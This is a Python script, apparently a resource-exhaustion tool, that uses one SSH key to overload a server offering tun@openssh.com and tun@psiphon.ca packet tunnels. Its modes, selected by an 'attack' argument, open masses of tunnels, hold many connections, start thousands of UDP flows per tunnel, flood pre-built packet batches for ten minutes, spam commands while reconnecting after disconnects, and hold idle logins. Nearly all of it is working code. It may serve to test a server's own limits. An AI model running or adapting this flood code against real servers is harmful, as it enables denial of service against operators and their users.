"""One key that takes as much as it gets.

    key-share.py HOST PORT USER KEYFILE sessions COUNT   opens that many tunnels, one after the other, each under a name of its own
    key-share.py HOST PORT USER KEYFILE tunnels COUNT    holds that many tunnels, each over a connection of its own
    key-share.py HOST PORT USER KEYFILE flows COUNT      holds that many tunnels, and begins 9,000 flows through each
    key-share.py HOST PORT USER KEYFILE flood COUNT      holds that many tunnels, and begins flows through all of them as fast as it can
    key-share.py HOST PORT USER KEYFILE commands COUNT   runs that many commands as fast as it can, and goes on when thrown out
    key-share.py HOST PORT USER KEYFILE idle COUNT       logs in that often, opens nothing, and holds on

Prints one line at the end: what it got.
"""

import socket
import struct
import sys
import time

import packets
import paramiko


class Transport(paramiko.Transport):
    """open_channel() has no argument for the payload of a type that the library does not know."""

    payload = b""

    def _send_user_message(self, data):
        if data.asbytes()[0] == 90:  # SSH_MSG_CHANNEL_OPEN, RFC 4254 section 5.1
            data.packet.write(self.payload)
        super()._send_user_message(data)


def log_in():
    transport = Transport(socket.create_connection((host, int(port)), timeout=10))
    transport.start_client(timeout=10)
    transport.auth_publickey(user, key)
    return transport


def sessions(count):
    transport = log_in()
    opened = 0
    for unit in range(count):
        # tun@openssh.com: layer 3, and the unit number, which names the session.
        transport.payload = struct.pack(">II", 1, unit)
        try:
            transport.open_channel("tun@openssh.com", timeout=10)
            opened += 1
        except paramiko.ChannelException:
            pass
    transport.close()
    return f"opened {opened}"


def tunnels(count):
    held = []
    for unit in range(count):
        transport = log_in()
        transport.payload = struct.pack(">II", 1, unit)
        held.append((transport, transport.open_channel("tun@openssh.com", timeout=10)))
    print(f"holds {len(held)}", flush=True)
    time.sleep(600)


def sessions_of_their_own(count):
    """One after the other: a connection and its channel, each with a session name of its own."""
    for number in range(count):
        transport = log_in()
        channel = transport.open_channel("tun@psiphon.ca", timeout=10)
        channel.set_environment_variable("PACKET_TUNNEL_SESSION", f"{number:032x}")
        yield transport, channel


def flows(count):
    held = []
    for transport, channel in sessions_of_their_own(count):
        held.append((transport, channel))
        for source, destination in (("10.111.0.9", "203.0.113.10"), ("fd11:1111::9", "2001:db8:3::10")):
            for port in range(20000, 24500):
                packet = packets.udp(source, destination, port, 9, b"")
                channel.sendall(struct.pack(">H", len(packet)) + packet)
    print(f"began {9000 * len(held)}", flush=True)
    time.sleep(600)


def flood(count):
    """A UDP checksum of zero is none (RFC 768), so that packets differ in two bytes: 16,000 flows of each tunnel, again and again."""
    channels = list(sessions_of_their_own(count))
    packet = bytearray(packets.udp("10.111.0.9", "203.0.113.10", 0, 9, b""))
    packet[26:28] = b"\0\0"
    batches = []
    for first in range(1024, 17024, 1000):
        frames = bytearray()
        for port in range(first, first + 1000):
            packet[20:22] = struct.pack(">H", port)
            frames += struct.pack(">H", len(packet)) + packet
        batches.append(bytes(frames))
    print(f"floods {len(channels)}", flush=True)
    started, begun = time.monotonic(), 0
    while time.monotonic() < started + 600:
        for batch in batches:
            for _, channel in channels:
                channel.sendall(batch)
                begun += 1000
            print(f"began {begun} in {time.monotonic() - started:.1f} s", flush=True)


def commands(count):
    answered = ended = 0
    transport = log_in()
    while answered + ended < count and ended < 20:
        try:
            channel = transport.open_session(timeout=10)
            channel.settimeout(10)
            channel.exec_command("info")
            answered += bool(channel.recv(1))
            channel.close()
        except (paramiko.SSHException, OSError, EOFError):
            ended += 1
            transport.close()
            transport = log_in()
    return f"answered {answered} ended {ended}"


def idle(count):
    transports = []
    for _ in range(count):
        transports.append(log_in())
        time.sleep(0.1)
    time.sleep(1)
    return f"alive {sum(transport.is_active() for transport in transports)}"


host, port, user, key_file, attack, count = sys.argv[1:]
key = paramiko.Ed25519Key.from_private_key_file(key_file)
print({"sessions": sessions, "tunnels": tunnels, "flows": flows, "flood": flood, "commands": commands, "idle": idle}[attack](int(count)), flush=True)
